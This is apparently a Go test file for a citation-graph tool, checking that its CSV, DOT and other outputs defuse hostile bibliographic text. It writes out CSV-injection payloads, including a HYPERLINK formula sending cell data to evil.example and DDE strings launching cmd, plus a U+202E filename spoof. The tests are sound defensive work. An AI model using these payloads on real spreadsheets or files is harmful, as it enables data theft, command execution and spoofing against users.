package output_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/citegraph/citegraph/analysis"
	"github.com/citegraph/citegraph/graph"
	"github.com/citegraph/citegraph/graph/encoding/encodingtest"
	"github.com/citegraph/citegraph/graph/output"
)

// The hostile text of issue 16: a title of 17,000 characters (item 1),
// spreadsheet formulas as titles, authors and venues (item 2, the forms
// OWASP's "CSV Injection" page gives), and U+202E RIGHT-TO-LEFT OVERRIDE
// (item 6), which shows the rest of its line reversed.
var (
	longTitle = strings.Repeat("Peer support workers in mental health services ", 400)[:17000]
	longWord  = strings.Repeat("x", 17000) // one "word": no space to cut at
	formulas  = []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"}
	bidi      = "\u202E"
)

// hostileCorpus is handCorpus's shape (P1 … P3 cite B and X, Q1 … Q4 cite
// A) with hostile text in the titles, authors and venues of every work.
func hostileCorpus() []graph.Record {
	doi := func(s string) string { return "10.5555/" + s }
	cites := func(ids ...string) []graph.Reference {
		var refs []graph.Reference
		for _, id := range ids {
			refs = append(refs, graph.Reference{DOI: doi(id)})
		}
		return refs
	}
	src := graph.Source{Path: "hostile.ris", Line: 1, Database: formulas[0]}
	recs := []graph.Record{
		{DOI: doi("a"), Year: 2000, Title: longTitle, Venue: longTitle, Authors: []graph.Author{{Family: longWord, Given: "A"}}},
		{DOI: doi("b"), Year: 2000, Title: longWord, Authors: []graph.Author{{Family: formulas[0]}}, Venue: formulas[1]},
		{DOI: doi("x"), Year: 2000, Title: formulas[0], Authors: []graph.Author{{Family: "Evil" + bidi + "gnp.exe"}}, Venue: formulas[3]},
		{DOI: doi("p1"), Year: 2001, Title: formulas[1], Authors: []graph.Author{{Family: formulas[2]}}, References: cites("b", "x")},
		{DOI: doi("p2"), Year: 2002, Title: formulas[2] + " " + longTitle, Authors: []graph.Author{{Family: formulas[3]}, {Family: longWord}}, References: cites("b", "x")},
		{DOI: doi("p3"), Year: 2003, Title: "Hospital " + bidi + "egrahcsid", Venue: bidi + formulas[0], Authors: []graph.Author{{Family: "Ortiz" + bidi}}, References: cites("b", "x")},
	}
	for i := range 4 {
		recs = append(recs, graph.Record{DOI: doi("q" + strconv.Itoa(i+1)), Year: 2004, Title: formulas[i] + " " + longTitle,
			Authors: []graph.Author{{Family: formulas[i]}}, Venue: longWord, References: cites("a")})
	}
	for i := range recs {
		recs[i].Source = src
		recs[i].Source.Line = i + 1
		recs[i].Abstract = longTitle + " " + bidi + formulas[i%4]
		// Keywords and addresses for the science maps: the long word and a
		// formula in every document, with one keyword all share.
		recs[i].AuthorKeywords = []string{longWord, "peer support", formulas[i%4], bidi + "recovery"}
		recs[i].KeywordsPlus = recs[i].AuthorKeywords
		recs[i].Affiliations = []string{longTitle + ", London, England", formulas[i%4] + ", Paris, France", bidi + "Univ, Madrid, Spain"}
		recs[i].Normalize() // as the readers hand records over: with their ID
	}
	return recs
}

// writeHostile writes every format of the hostile corpus into a folder.
func writeHostile(t *testing.T) string {
	t.Helper()
	recs := hostileCorpus()
	g := graph.Build(recs)
	res := analysis.Run(g, analysis.Options{Seed: 1})
	chosen, err := output.ParseFormats("all")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if _, err := output.Write(context.Background(), output.Dir{Path: dir}, output.NewInput(recs, g, res), output.Options{
		Formats: chosen, Render: "none", Paths: []string{"hostile.ris"}, Sources: 1, Periods: []int{2001},
		Views: output.Views{Measure: "pagerank", MapTop: 30, Depth: 1},
	}); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestHostileDOT (issue 16 item 1): with a title of 17,000 characters,
// GraphViz rejected graph.dot, graph.gephi.dot, top.dot and
// historiograph.dot ("syntax error … longer than 16384?"). Every .dot file
// written must now be read and laid out by the real dot, and no quoted
// string in it may be longer than GraphViz's 16,384-byte scanner buffer.
func TestHostileDOT(t *testing.T) {
	dir := writeHostile(t)
	dots, _ := filepath.Glob(filepath.Join(dir, "*.dot"))
	for _, want := range []string{"graph.dot", "graph.gephi.dot", "top.dot", "historiograph.dot", "overview.dot", "prisma.dot"} {
		if _, err := os.Stat(filepath.Join(dir, want)); err != nil {
			t.Errorf("%s not written", want)
		}
	}
	quoted := regexp.MustCompile(`"(?:[^"\\]|\\.)*"|<(?:[^<>]|<[^<>]*>)*>`)
	for _, p := range dots {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, q := range quoted.FindAll(b, -1) {
			if len(q) > dotMaxString {
				t.Errorf("%s: a string of %d bytes (GraphViz's limit is 16384): %.60s…", filepath.Base(p), len(q), q)
				break
			}
		}
	}
	dotPath := encodingtest.Tool(t, "dot", "graphviz")
	for _, p := range dots {
		// neato -n2 would need positions; -Kdot lays out any of them.
		encodingtest.Run(t, nil, dotPath, "-Tsvg", "-o", os.DevNull, p)
	}
}

// dotMaxString is the longest quoted string the test allows in a .dot
// file: below GraphViz's 16,384-byte buffer (measured with dot 2.43: a
// label of 16,381 characters reads, 16,382 does not).
const dotMaxString = 16384 - 4

// TestHostileCSV (issue 16 item 2): no cell of any table, CSV or
// VOSviewer's tab-separated files, starts with a character a spreadsheet
// reads as a formula, unless it is a number; the formulas are still
// there, after a single quote.
func TestHostileCSV(t *testing.T) {
	dir := writeHostile(t)
	number := regexp.MustCompile(`^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$|^[+-]Inf$|^NaN$`)
	tables, _ := filepath.Glob(filepath.Join(dir, "*.csv"))
	vos, _ := filepath.Glob(filepath.Join(dir, "vosviewer_*.txt"))
	seen := map[string]bool{}
	check := func(name string, rows [][]string) {
		for i, row := range rows {
			for _, c := range row {
				c = strings.TrimPrefix(strings.TrimSuffix(c, `"`), `"`) // VOSviewer's own quotes
				if lead := strings.TrimLeft(c, " "); lead != "" && strings.ContainsRune("=+-@\t\r", rune(lead[0])) && !number.MatchString(lead) {
					t.Errorf("%s row %d: cell %.60q runs as a formula", name, i+1, c)
				}
				for _, f := range formulas {
					if strings.Contains(c, "'"+f) {
						seen[f] = true
					}
				}
			}
		}
	}
	for _, p := range tables {
		rows, err := csv.NewReader(bytes.NewReader(read(t, dir, filepath.Base(p)))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", filepath.Base(p), err)
		}
		check(filepath.Base(p), rows)
	}
	for _, p := range vos {
		var rows [][]string
		for _, line := range strings.Split(strings.TrimSuffix(string(read(t, dir, filepath.Base(p))), "\n"), "\n") {
			rows = append(rows, strings.Split(line, "\t"))
		}
		check(filepath.Base(p), rows)
	}
	for _, f := range formulas {
		if !seen[f] {
			t.Errorf("no table shows %q after a quote", f)
		}
	}
	// The tables the issue names hold the formulas, quoted.
	for _, name := range []string{"centrality.csv", "citations.csv", "themes.csv", "vosviewer_map.txt"} {
		if !regexp.MustCompile(`(^|[,\t"])'[=+@-]`).Match(read(t, dir, name)) {
			t.Errorf("%s holds no formula after a quote", name)
		}
	}
	// The JSON outputs are data: they keep the text as it is.
	if !bytes.Contains(read(t, dir, "works.jsonl"), []byte(`"title":"@SUM(A1) Peer`)) {
		t.Errorf("works.jsonl does not keep the title @SUM(A1) … verbatim")
	}
	if !bytes.Contains(read(t, dir, "graph.json"), []byte(`"title": "@SUM(A1) Peer`)) && !bytes.Contains(read(t, dir, "graph.json"), []byte(`"title":"@SUM(A1) Peer`)) {
		t.Errorf("graph.json does not keep the title @SUM(A1) … verbatim")
	}
}

// dataFiles are the outputs that keep the text as read: the records
// (works.jsonl, unique.ris, for screening tools to import) and the JSON
// read by programs. graph.json is cleaned as the drawings are (its labels
// feed drawing tools).
var dataFiles = map[string]bool{"works.jsonl": true, "unique.ris": true, "matching.json": true, "prisma.json": true, "bibliometrics.json": true}

// TestHostileBidi (issue 16 item 6): U+202E and the other bidirectional
// controls appear in no drawing, page or table; the records as read
// (works.jsonl, unique.ris) keep them.
func TestHostileBidi(t *testing.T) {
	dir := writeHostile(t)
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		name := e.Name()
		b := read(t, dir, name)
		has := bytes.IndexFunc(b, func(r rune) bool { return unicode.Is(unicode.Bidi_Control, r) }) >= 0
		// Numeric character references would be bidi controls too.
		for _, ref := range []string{"&#x202E;", "&#x202e;", "&#8238;", `\u202e`, `\u202E`} {
			has = has || bytes.Contains(b, []byte(ref))
		}
		switch {
		case name == "works.jsonl" || name == "unique.ris":
			if !has {
				t.Errorf("%s lost the U+202E of the records", name)
			}
		case dataFiles[name]:
		case has:
			t.Errorf("%s holds a bidirectional control", name)
		}
		if !utf8.Valid(b) && !strings.HasSuffix(name, ".png") {
			t.Errorf("%s is not valid UTF-8", name)
		}
	}
	// The text around the control is kept.
	if !bytes.Contains(read(t, dir, "centrality.csv"), []byte("Hospital egrahcsid")) {
		t.Errorf("centrality.csv lost the title around U+202E")
	}
}

// TestHostileLongTitleKept: the drawings cut the 17,000-character title;
// the tables and graph.json keep it whole.
func TestHostileLongTitleKept(t *testing.T) {
	dir := writeHostile(t)
	for _, name := range []string{"works.jsonl", "graph.json", "centrality.csv", "graph.graphml", "graph.gexf"} {
		if !bytes.Contains(read(t, dir, name), []byte(strings.TrimSpace(longTitle))) {
			t.Errorf("%s does not hold the whole 17,000-character title", name)
		}
	}
}

// TestHostileNodes: analyse's nodes.csv goes through the same cells: an
// edge list's node "=cmd|' /C calc'!A0" is written with its quote, the
// node "-3" (a number) as it is.
func TestHostileNodes(t *testing.T) {
	b := graph.NewCompactBuilder()
	b.Cite(b.Node("=cmd|' /C calc'!A0"), b.Node("-3"), 1)
	c := b.Build()
	var buf bytes.Buffer
	if err := output.WriteNodes(&buf, c, analysis.Result{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, r := range rows[1:] {
		ids = append(ids, r[0])
	}
	if got, want := strings.Join(ids, " "), `-3 '=cmd|' /C calc'!A0`; got != want && got != `'=cmd|' /C calc'!A0 -3` {
		t.Errorf("ids %q, want %q (in either order)", got, want)
	}
}
